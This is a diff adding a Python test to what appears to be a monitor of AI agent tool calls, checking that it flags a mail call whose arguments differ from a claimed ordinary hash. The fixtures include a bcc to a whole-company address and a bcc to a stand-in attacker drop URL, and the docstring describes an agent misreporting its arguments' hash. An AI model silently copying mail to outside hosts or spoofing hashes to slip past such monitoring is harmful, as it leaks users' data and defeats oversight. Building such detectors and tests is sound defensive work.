@@ -283,6 +283,22 @@ def test_argument_shape_attack_and_twin() -> None:
     assert "argument_shape" not in run(mail(arguments=reordered))
 
 
+def test_argument_shape_an_agent_that_claims_the_hash_of_ordinary_arguments() -> None:
+    """The arguments' hash is the client's claim (the collector cannot recompute it:
+    the agent hashed its arguments before the collector's redaction): the shape and the
+    realms come from the arguments themselves, whatever hash a call names."""
+    ordinary = mail()  # its hash was met in the history: the shape of ordinary mail
+    assert any(c.arguments_hash == ordinary.arguments_hash for c in CALLS)
+    bcc = '{"bcc": "all@company.example", "body": "b", "subject": "s", "to": "x"}'
+    bcc_url = '{"bcc": "https://drop.attacker.example/x", "body": "b", "subject": "s", "to": "x"}'
+    found = run(
+        replace(ordinary, arguments=bcc),
+        replace(mail(session_id="s-other"), arguments=bcc_url),
+    )
+    assert "bcc" in found["argument_shape"].summary
+    assert "host:drop.attacker.example" in found["new_recipient_domain"].summary
+
+
 # -- untrusted_unapproved ------------------------------------------------------------------
 
 
